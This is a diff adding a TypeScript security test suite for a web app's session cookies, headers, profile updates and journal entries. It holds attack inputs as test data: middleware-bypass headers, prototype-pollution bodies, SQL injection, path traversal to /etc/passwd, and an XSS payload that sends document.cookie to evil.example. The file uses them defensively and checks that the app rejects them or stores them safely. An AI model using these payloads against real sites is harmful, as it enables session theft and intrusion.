@@ -1,0 +1,147 @@
+import { randomUUID } from "node:crypto";
+import { sealData } from "iron-session";
+import { db } from "@/lib/server/core/database/db";
+import { env } from "@/lib/server/core/env";
+import { signUp, TestBrowser } from "@/tests/setup/api";
+
+const SECRET = () => env().SESSION_SECRET[0] ?? "";
+
+describe("a seal", () => {
+	async function sessionIdOf(userId: number) {
+		return (await db().session.findFirstOrThrow({ where: { userId } })).id;
+	}
+	async function statusWith(value: string) {
+		const browser = new TestBrowser();
+		browser.cookies.set("innerscript", value);
+		return (await browser.get("/api/user")).status;
+	}
+
+	it("made with another key opens nothing, whatever it holds", async () => {
+		const { user } = await signUp();
+		const id = await sessionIdOf(user.id);
+		expect(await statusWith(await sealData({ id }, { password: "another secret of thirty-two characters" }))).toBe(401);
+		expect(await statusWith(await sealData({ id }, { password: SECRET() }))).toBe(200);
+	});
+
+	it("of which any part was changed opens nothing", async () => {
+		const { browser } = await signUp();
+		const sealed = browser.cookies.get("innerscript") ?? "";
+		const parts = sealed.split("*");
+		for (let i = 1; i < parts.length; i++) {
+			const part = parts[i] ?? "";
+			const changed = part.startsWith("1") ? `2${part.slice(1)}` : `1${part.slice(1)}`;
+			expect([i, await statusWith(parts.with(i, changed).join("*"))]).toEqual([i, 401]);
+		}
+	});
+
+	it("of one kind is no other kind: what remembers a browser is no session, nor is a half sign-in", async () => {
+		const { browser, user } = await signUp();
+		expect(await statusWith(browser.cookies.get("innerscript-browser") ?? "")).toBe(401);
+		const half = await sealData({ kind: "half", userId: user.id, passwordHash: null }, { password: SECRET() });
+		expect(await statusWith(half)).toBe(401);
+		const session = browser.cookies.get("innerscript") ?? "";
+		const stranger = new TestBrowser();
+		stranger.cookies.set("innerscript-half", session);
+		expect((await stranger.post("/api/second-factor/sign-in", { code: "123456" })).status).toBe(401);
+	});
+});
+
+it.each([
+	["x-middleware-subrequest", "middleware:middleware:middleware:middleware:middleware"],
+	["x-middleware-subrequest", "src/middleware"],
+	["x-middleware-prefetch", "1"],
+	["x-original-url", "/api/health"],
+	["x-rewrite-url", "/api/health"],
+	["x-http-method-override", "GET"],
+	["x-user-id", "1"],
+	["authorization", "Bearer 1"],
+])("the header %s opens nothing", async (name, value) => {
+	const stranger = new TestBrowser();
+	for (const path of ["/api/user", "/api/export", "/api/sessions", "/api/second-factor"]) {
+		expect((await stranger.get(path, { headers: { [name]: value } })).status).toBe(401);
+	}
+});
+
+it.each([
+	'{"firstName":"Eve","__proto__":{"isAdmin":true}}',
+	'{"firstName":"Eve","constructor":{"prototype":{"isAdmin":true}}}',
+	'{"__proto__":{"currentPassword":"x"},"firstName":"Eve","isAdmin":true}',
+	'{"firstName":"Eve","id":1}',
+	'{"firstName":"Eve","userId":1}',
+	'{"firstName":{"set":"Eve"}}',
+	'{"email":{"contains":"@"}}',
+])("nobody becomes more than they are by sending %s", async (raw) => {
+	const { browser, user } = await signUp();
+	const response = await browser.fetch("POST", "/api/update-profile", {
+		raw,
+		headers: { "content-type": "application/json" },
+	});
+	expect([200, 400]).toContain(response.status);
+	const row = await db().user.findUniqueOrThrow({ where: { id: user.id } });
+	expect([row.isAdmin, row.id, row.email]).toEqual([false, user.id, user.email]);
+	expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
+});
+
+const naughty = [
+	"undefined",
+	"null",
+	"'; DROP TABLE users; --",
+	"1e309",
+	"%00",
+	"../../../../etc/passwd",
+	"${7*7} {{7*7}} <%= 7*7 %>",
+	"<script>alert(1)</script>",
+	'<img src=x onerror="fetch(`//evil.example/`+document.cookie)">',
+	"![](https://evil.example/canary.png)",
+	"[x](javascript:alert(1))",
+	"\u202eevil\u202c",
+	"e\u0301 é",
+	"👩‍👩‍👧‍👦 🏳️‍🌈",
+	"田中さんにあげて下さい",
+	"בְּרֵאשִׁית مرحبا",
+	"\ufeffbegins with a mark",
+	"tab\tand\r\nlines\u2028",
+	"-".repeat(5_000),
+];
+
+it("what people write comes back as they wrote it, however odd, as JSON that no browser takes for a page", async () => {
+	const { browser, user } = await signUp();
+	for (const content of naughty) {
+		const response = await browser.post(
+			"/api/journal",
+			{ content, prompt: content.slice(0, 200), action: "submit" },
+			{ "idempotency-key": randomUUID(), "x-timezone-offset": "0" },
+		);
+		expect([content.slice(0, 40), response.status]).toEqual([content.slice(0, 40), 200]);
+		expect(response.headers.get("content-type")).toMatch(/^application\/json/);
+	}
+	const kept = await db().journalEntry.findMany({ where: { userId: user.id }, select: { content: true } });
+	expect(kept.map(({ content }) => content).sort()).toEqual([...naughty].sort());
+});
+
+it.each(["a\u0000b", "a\ud800b", "\udc00"])("%j is refused in words, in every text", async (text) => {
+	const { browser } = await signUp();
+	const raw = JSON.stringify({ firstName: text });
+	const response = await browser.fetch("POST", "/api/update-profile", {
+		raw,
+		headers: { "content-type": "application/json" },
+	});
+	expect([response.status, await response.text()]).toEqual([400, expect.stringContaining("cannot be saved")]);
+});
+
+it("everything at once by one person: nothing breaks, and each answer is one that is meant", async () => {
+	const { browser, account } = await signUp();
+	const calls = [
+		() => browser.get("/api/user"),
+		() => browser.get("/api/sessions"),
+		() => browser.get("/api/second-factor"),
+		() => browser.get("/api/export"),
+		() => browser.post("/api/update-profile", { firstName: "Ada" }),
+		() => browser.post("/api/second-factor/totp", { currentPassword: account.password }),
+		() => browser.delete("/api/sessions"),
+	];
+	const answers = await Promise.all(Array.from({ length: 42 }, (_, i) => calls[i % calls.length]?.()));
+	const statuses = new Set(answers.map((answer) => answer?.status));
+	for (const status of statuses) expect([200, 409, 429]).toContain(status);
+	expect((await browser.get("/api/user")).status).toBe(200);
+});
